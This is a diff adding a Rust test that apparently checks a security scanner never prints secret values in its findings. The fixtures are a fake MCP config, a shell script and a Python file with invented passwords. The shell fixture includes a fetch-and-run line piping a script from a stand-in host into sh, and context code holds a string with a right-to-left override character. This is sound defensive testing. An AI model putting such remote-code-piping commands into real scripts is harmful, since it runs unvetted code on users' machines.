@@ -69,6 +69,40 @@ fn values_keys_and_server_names_are_redacted() {
 }
 
 #[test]
+fn values_behind_names_are_hidden_beside_any_finding() {
+    // Nothing here has a provider's format: only the names tell.
+    let values = ["k9d8f7s6a5k4", "right horse 7 staple", "ab,cdefghijkl", "hunter2x9zq"];
+    let [key, phrase, comma, pass] = values;
+    let tree = Tree::of(&[
+        (
+            ".mcp.json",
+            &format!(
+                "{{\"mcpServers\":{{\"a\":{{\"command\":\"npx\",\"args\":[\"foo\"],\n\"env\":{{\"signingKey\":\"{key}\",\
+                 \"DB_PASSWORD\":\"{phrase}\"}}}},\n\"b\":{{\"command\":\"sh\",\"args\":[\"-c\",\"PASS={pass} ./b\"]}}}}}}"
+            ),
+        ),
+        (
+            "run.sh",
+            &format!(
+                "export DB_PASSWORD=\"{phrase}\" API_SECRET=\"{comma}\"\ncurl https://x.example/i | sh\nPASS={pass} ./x\n"
+            ),
+        ),
+        ("a.py", &format!("if token: password = \"{phrase}\"\nprose_hit = 1\n")),
+    ]);
+    tree.page("own-word", &word_page("own-word", "low", "prose_hit"));
+    let rules = tree.rules();
+    for format in ["text", "json"] {
+        for more in [&[][..], &["--verbose"], &["--select", "supply-chain,own,client-config"]] {
+            let run = tree.scan(&[&["--rules", &rules, "--format", format][..], more].concat());
+            assert_eq!(run.code, 1, "{}", run.stderr);
+            for value in values {
+                assert!(!run.shown().contains(value), "{value}:\n{}", run.shown());
+            }
+        }
+    }
+}
+
+#[test]
 fn policies_are_redacted() {
     let secret = token(7);
     let hostile = format!("{secret} \u{202e} /home/{USER}/x");
